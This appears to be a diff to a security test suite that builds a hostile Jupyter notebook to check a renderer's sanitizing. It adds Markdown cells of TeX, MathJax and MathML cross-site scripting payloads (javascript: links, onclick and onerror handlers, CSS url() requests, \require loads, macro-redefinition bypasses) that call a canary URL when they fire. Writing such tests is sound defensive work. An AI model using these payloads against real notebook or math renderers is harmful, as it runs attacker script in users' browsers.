@@ -65,6 +65,47 @@ def markdown_sources(canary: str) -> list[str]:
     ]
 
 
+TEX_MARK = "rmtex"
+"""Every value a typesetting attack puts into an attribute holds this mark (or the canary's address): an element of
+the page with an attribute holding either is an attack that worked."""
+
+
+def typesetting_attacks(canary: str) -> list[str]:
+    """Markdown cells of TeX (and MathML) that try to make links, styles, classes, ids, HTML or requests through
+    the typesetter: every macro that takes attributes or loads code, the same built at run time with
+    ``\\def``/``\\newcommand``/``\\let``, hidden in font switches, and MathML written as HTML."""
+    def p(place: str) -> str:  # no double quote, brace, bracket or dollar: any TeX argument or option holds it
+        return (f"top.pwned=(top.pwned||Array()).concat(Array('{TEX_MARK}-{place}'));"
+                f"fetch('{canary}/{TEX_MARK}-{place}')")
+
+    def u(place: str) -> str:
+        return f"url({canary}/{TEX_MARK}-{place})"
+    return [
+        rf"""$\href{{javascript:{p('href')}}}{{x}}$ $\href{{{canary}/{TEX_MARK}-href-http}}{{y}}$
+$\mmlToken{{mi}}[href="javascript:{p('mml-href')}"]{{x}}$ $\mmlToken{{mi}}[style="background:{u('mml-style')}"]{{x}}$
+$\mmlToken{{mi}}[onclick="{p('mml-onclick')}"]{{x}}$ $\mmlToken{{mi}}[class="{TEX_MARK}-class"]{{x}}$
+$\mmlToken{{mi}}[id="{TEX_MARK}-id"]{{x}}$ $\mmlToken{{mo}}[fontfamily="{TEX_MARK}-font",background="{u('mml-bg')}"]{{+}}$""",
+        rf"""$\class{{{TEX_MARK}-class}}{{x}}$ $\style{{background-image:{u('style')}}}{{x}}$ $\cssId{{{TEX_MARK}-id}}{{x}}$
+$\unicode[{TEX_MARK}-font]{{x41}}$ $\unicode{{x41}}$ $\require{{{canary}/{TEX_MARK}-require}}$ $\require{{html}}$
+$\data{{{TEX_MARK}=1}}{{x}}$ $\texttip{{x}}{{{TEX_MARK}-tip}}$ $\mathtip{{x}}{{{TEX_MARK}-tip}}$
+$\toggle{{a}}{{b}}\endtoggle$ $\bbox[background:{u('bbox')}]{{x}}$ $\bbox[red,5pt,border:{u('bbox-border')}]{{x}}$
+$\color{{{u('color')}}}{{x}}$ $\colorbox{{{u('colorbox')}}}{{x}}$""",
+        rf"""$\def\link#1{{\href{{javascript:{p('def-href')}}}{{#1}}}}\link{{x}}$
+$\newcommand{{\tok}}{{\mmlToken{{mi}}[href="javascript:{p('newcommand-mml')}"]}}\tok{{x}}$
+$\let\tk\mmlToken \tk{{mi}}[href="javascript:{p('let-mml')}"]{{x}}$
+$\def\mml{{mmlToken}}\csname mml\endcsname{{mi}}[href="javascript:{p('csname')}"]{{x}}$
+${{\rm \mmlToken{{mi}}[href="javascript:{p('rm-mml')}"]{{x}}}}$ $\mathrm{{\href{{javascript:{p('mathrm-href')}}}{{x}}}}$
+$\operatorname{{\mmlToken{{mi}}[style="background:{u('operatorname')}"]{{x}}}}$ $\text{{\href{{javascript:{p('text-href')}}}{{x}}}}$
+$$a \label{{{TEX_MARK}-label}} \tag{{{TEX_MARK}}}$$ $\ref{{{TEX_MARK}-label}}$ $\eqref{{{TEX_MARK}-label}}$
+$a \bmod b$ $a \pmod{{n}}$ $\varliminf_n x$""",
+        f"""<math><mi href="javascript:{p('mathml-href')}" style="background:{u('mathml-style')}" class="{TEX_MARK}-class"
+id="{TEX_MARK}-id" mathbackground="{u('mathml-bg')}" xlink:href="javascript:{p('mathml-xlink')}">x</mi>
+<maction actiontype="statusline"><mi>y</mi><mtext>{TEX_MARK}-status</mtext></maction>
+<semantics><mi>z</mi><annotation-xml encoding="text/html"><img src="{canary}/{TEX_MARK}-annotation"
+onerror="{p('annotation')}"></annotation-xml></semantics><mstyle mathcolor="{u('mathml-color')}"><mi>w</mi></mstyle></math>""",
+    ]
+
+
 def attachments(canary: str) -> dict:
     svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{js('attach-svg', canary)}\"><script>" \
           f"{js('attach-svg-script', canary)}</script></svg>"
@@ -116,6 +157,7 @@ def hostile_notebook(release: nbformat.NotebookNode, canary: str) -> nbformat.No
         if i == 7:
             cell.attachments = attachments(canary)
         nb.cells.append(cell)
+    nb.cells.extend(nbformat.v4.new_markdown_cell(source) for source in typesetting_attacks(canary))
     raw = nbformat.v4.new_raw_cell(f"<script>{j('raw-html')}</script>")
     raw.metadata.raw_mimetype = "text/html"
     nb.cells.append(raw)
@@ -162,7 +204,8 @@ POKE = """() => {
     for (const type of ['mouseover', 'mouseenter', 'focus', 'toggle', 'load', 'error', 'animationstart'])
       el.dispatchEvent(new Event(type));
   }
-  for (const a of root.querySelectorAll('a[href]')) a.click();
+  for (const a of root.querySelectorAll('a[href]'))  // an SVG link (typeset math) has no click(): a click event
+    a.click ? a.click() : a.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
   return root.querySelectorAll('*').length;
 }"""
 
